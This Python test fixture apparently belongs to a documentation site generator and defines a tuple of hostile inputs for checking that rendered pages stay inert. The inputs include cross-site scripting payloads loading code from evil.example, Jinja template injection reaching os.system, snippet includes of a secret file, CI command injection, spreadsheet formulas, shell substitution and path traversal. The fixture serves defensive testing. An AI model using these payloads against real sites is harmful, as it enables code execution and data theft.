"""Texts that would be more than text if anything ran, parsed or obeyed them."""

TOUCHED = ("mp-was-here", "Cycler")
"""The names of the files and folders that a text would leave behind if it were run."""

SECRET = "the-content-of-a-secret-file"
"""What stands in `secret.txt` beside the pages, which no text may bring into the site."""

_JINJA = "cycler.__init__.__globals__.os.system('touch mp-was-here')"

HOSTILE = (
    # markup and scripts
    "</title><script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    '"><svg onload=window.hit=1>',
    "' onmouseover='window.hit=1' x='",
    "</textarea></style></script><script src=//evil.example/x.js></script>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "--><script>window.hit=1</script><!--",
    "]]><script>window.hit=1</script>",
    "<x onclick=window.hit=1 tabindex=0 autofocus onfocus=window.hit=1>",
    "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;b&#62; &amp; &nbsp;",
    "<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example>",
    "</details></table></div></main></body></html>",
    "<mp-x is=script>…</mp-x> <math><mtext></mtext></math>",
    # addresses
    "javascript:window.hit=1",
    "[click](javascript:window.hit=1) [data](data:text/html,<script>window.hit=1</script>)",
    "<javascript:window.hit=1> <https://evil.example> [a]: javascript:window.hit=1",
    "![x](//evil.example/pixel.png) ![y][z]",
    # templates and macros
    "{{ 7 * 7 }}{{ config.site_name }}",
    "{{ " + _JINJA + " }}",
    "{% for x in [1] %}{{ " + _JINJA + " }}{% endfor %}",
    "{{ cycler.__init__.__globals__.os.mkdir(cycler.__name__) }}",  # without quotes, which escaping would break
    "{% include 'secret.txt' %}{# comment #}{% raw %}",
    "{{ macros_info() }} {{ context() }} {{ environment }}",
    "${7*7} #{7*7} <%= 7*7 %> {{{7*7}}} %(site_name)s {0.__class__} {site_name}",
    # Markdown and its extensions
    '--8<-- "secret.txt"',
    ';--8<-- "secret.txt" -8<- secret.txt',
    '--8<-- "https://evil.example/x.md"',
    "!!! danger inline end",
    '??? note "open me"',
    '=== "Tab"',
    "{: onclick=window.hit=1 #top .md-button } { .evil onfocus=window.hit=1 }",
    "**bold** _em_ `code` ~~del~~ ==mark== H~2~O ^^ins^^ ++ctrl+alt++ [[wiki]]",
    "``` { .python onclick=window.hit=1 }",
    "~~~yaml title=<script>",
    "# Heading { #evil } | a | b |",
    "1. one - two * three > four --- [TOC] [^1] [^1]: note *[HTML]: evil",
    ":material-skull: :smile: ---8<--- |||",
    "<!-- milepost: status --> <!-- more --> <!-- md:x -->",
    "\\<b\\> \\[x\\] \\`y\\` wzxhzdk:0 klzzwxh:0000",
    # other consumers
    "::stop-commands::x ::set-output name=a::b ::error file=a::b",
    "##[group]x ##vso[task.setvariable variable=a]b %0A::error::x",
    "=cmd|' /C calc'!A0 +1+1 -1 @SUM(1)",
    "$(touch mp-was-here) `touch mp-was-here` ; touch mp-was-here | & > mp-was-here",
    "../../../etc/passwd ..\\..\\x file:///etc/passwd C:\\x",
    "%s %n %x {} {0} {key} \\n \\u0041 \\x41 %2e%2e%2f",
    "'; DROP TABLE x; -- \" ' ` \\ / & < > = , ; : # ! ? * @ ^ ~ |",
    "W" * 90,
    "ﷺ👩\u200d💻 שלום عربي 日本語 e\u0301 İı ß ﬁ",
)

HARMLESS = tuple(f"harmless{i}" for i in range(len(HOSTILE)))
